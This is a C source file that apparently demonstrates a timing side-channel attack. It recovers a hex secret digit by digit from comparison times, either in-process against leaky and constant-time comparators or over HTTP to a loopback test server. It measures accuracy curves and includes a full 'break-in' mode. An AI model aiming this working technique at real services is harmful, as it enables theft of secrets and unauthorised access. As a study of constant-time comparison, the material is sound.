/* Read a secret of hexadecimal digits, one after the other, by the time that its comparison takes:
 * the digit whose timings stand out is right, by their mean or by the least of them.
 *
 * "curve" knows the digits before the one it asks for (which who guessed right would, too), so that
 * each digit is a trial of its own: how many come out right with n timings of each candidate? It
 * prints [n, right by the mean, right by the least] for n of 1, 2, 4 ... MOST, each on a line, as
 * soon as it knows: who has seen enough ends it. "break-in" knows nothing but what it is answered,
 * takes the digits by the least, and doubles n until it is let in; it prints [n, timings in all];
 * [] when MOST is not enough. The last digit has no time of its own: the answer gives it away.
 * usage: timing curve|break-in MOST SECRET PORT                               of timing_server
 *        timing curve|break-in MOST SECRET leaky|constant-time SLOW_NS DELAY_NS  in this process */
#include "compared.h"
#include "secret.h"
#include <arpa/inet.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define DIGITS "0123456789abcdef"
enum { CANDIDATES = 16, LEN_MAX = 64 };
#define FILLER 'x' /* no digit: what follows the one that is asked for is never right */

/* Who answers. */
struct oracle {
    bool (*ask)(const struct oracle *o, const char *guess, double *ns);
    struct compared how;
    const char *secret;
    int fd;
};
static size_t timings; /* taken so far */

static bool ask_here(const struct oracle *o, const char *guess, double *ns)
{
    double start = now_ns();
    bool same = compared(&o->how, o->secret, guess, strlen(guess));
    *ns = now_ns() - start;
    return same;
}

static bool ask_there(const struct oracle *o, const char *guess, double *ns)
{
    char request[128 + LEN_MAX], reply[1024];
    ssize_t len = 0, n = snprintf(request, sizeof(request),
                                  "GET /guess/%s HTTP/1.1\r\nHost: x\r\n\r\n", guess);
    double start = now_ns();
    if (write(o->fd, request, (size_t)n) != n)
        exit(1);
    do {
        n = read(o->fd, reply + len, sizeof(reply) - (size_t)len);
        if (n <= 0)
            exit(1);
        len += n;
    } while (len < 3 ||
             (memcmp(reply + len - 3, "ok\n", 3) != 0 && memcmp(reply + len - 3, "no\n", 3) != 0));
    *ns = now_ns() - start;
    return memcmp(reply + len - 3, "ok\n", 3) == 0;
}

/* --- one digit ------------------------------------------------------------------------------- */

struct times {
    double sum[CANDIDATES], least[CANDIDATES];
};

static void shuffle(unsigned order[CANDIDATES])
{
    uint8_t chance[CANDIDATES];
    secret_random(chance, sizeof(chance));
    for (unsigned i = 0; i < CANDIDATES; i++)
        order[i] = i;
    for (unsigned i = CANDIDATES - 1; i > 0; i--) {
        unsigned j = chance[i] % (i + 1), kept = order[i];
        order[i] = order[j];
        order[j] = kept;
    }
}

/* Each candidate for guess[at] once, in an order of chance. */
static void time_round(const struct oracle *o, char *guess, size_t at, struct times *t)
{
    unsigned order[CANDIDATES];
    shuffle(order);
    for (unsigned i = 0; i < CANDIDATES; i++) {
        unsigned c = order[i];
        double ns;
        guess[at] = DIGITS[c];
        o->ask(o, guess, &ns);
        t->sum[c] += ns;
        if (t->least[c] == 0 || ns < t->least[c])
            t->least[c] = ns;
    }
    timings += CANDIDATES;
}

static char slowest(const double of[CANDIDATES])
{
    unsigned best = 0;
    for (unsigned c = 1; c < CANDIDATES; c++)
        if (of[c] > of[best])
            best = c;
    return DIGITS[best];
}

/* --- the two attacks ------------------------------------------------------------------------- */

/* The first `known` of `secret`, and nothing that is right. */
static void fill(char guess[LEN_MAX + 1], const char *secret, size_t known)
{
    size_t len = strlen(secret);
    memset(guess, FILLER, len);
    guess[len] = '\0';
    memcpy(guess, secret, known);
}

static void report(const struct times *of, const char *secret, size_t n)
{
    unsigned by_mean = 0, by_least = 0;
    for (size_t at = 0; at + 1 < strlen(secret); at++) {
        by_mean += slowest(of[at].sum) == secret[at];
        by_least += slowest(of[at].least) == secret[at];
    }
    printf("[%zu, %u, %u]\n", n, by_mean, by_least);
    fflush(stdout);
}

/* A round of each digit in turn, so that all of them see the same hours of the machine. */
static void curve(const struct oracle *o, size_t most)
{
    struct times of[LEN_MAX] = {0};
    char guess[LEN_MAX + 1];
    for (size_t n = 1; n <= most; n++) {
        for (size_t at = 0; at + 1 < strlen(o->secret); at++) {
            fill(guess, o->secret, at);
            time_round(o, guess, at, &of[at]);
        }
        if ((n & (n - 1)) == 0)
            report(of, o->secret, n);
    }
}

static bool let_in(const struct oracle *o, size_t rounds)
{
    char guess[LEN_MAX + 1];
    double ns;
    size_t len = strlen(o->secret);
    fill(guess, o->secret, 0);
    for (size_t at = 0; at + 1 < len; at++) {
        struct times t = {0};
        for (size_t n = 0; n < rounds; n++)
            time_round(o, guess, at, &t);
        guess[at] = slowest(t.least);
    }
    for (unsigned c = 0; c < CANDIDATES; c++) {
        guess[len - 1] = DIGITS[c];
        timings++;
        if (o->ask(o, guess, &ns))
            return true;
    }
    return false;
}

static void break_in(const struct oracle *o, size_t most)
{
    size_t rounds = 1;
    while (rounds <= most && !let_in(o, rounds))
        rounds *= 2;
    if (rounds <= most)
        printf("[%zu, %zu]\n", rounds, timings);
    else
        puts("[]");
}

static const struct {
    const char *name;
    void (*run)(const struct oracle *o, size_t most);
} attacks[] = {{"curve", curve}, {"break-in", break_in}};

static int connected(const char *port)
{
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((uint16_t)strtoul(port, NULL, 10)),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
        return fd;
    perror("connect");
    exit(1);
}

static bool secret_good(const char *secret)
{
    size_t len = strlen(secret);
    return len >= 2 && len <= LEN_MAX && strspn(secret, DIGITS) == len;
}

int main(int argc, char **argv)
{
    struct oracle o = {.ask = argc == 7 ? ask_here : ask_there, .fd = -1};
    size_t i = 0, count = sizeof(attacks) / sizeof(attacks[0]);
    while (argc > 1 && i < count && strcmp(attacks[i].name, argv[1]) != 0)
        i++;
    if ((argc != 5 && argc != 7) || i == count || !secret_good(argv[3]) ||
        (argc == 7 && !compared_by_name(argv[4], &o.how))) {
        fputs("usage: timing curve|break-in MOST SECRET PORT\n"
              "       timing curve|break-in MOST SECRET leaky|constant-time SLOW_NS DELAY_NS\n",
              stderr);
        return 2;
    }
    o.secret = argv[3];
    if (argc == 7) {
        o.how.slow_ns = strtoull(argv[5], NULL, 10);
        o.how.delay_ns = strtoull(argv[6], NULL, 10);
    } else {
        o.fd = connected(argv[4]);
    }
    attacks[i].run(&o, strtoul(argv[2], NULL, 10));
    return 0;
}
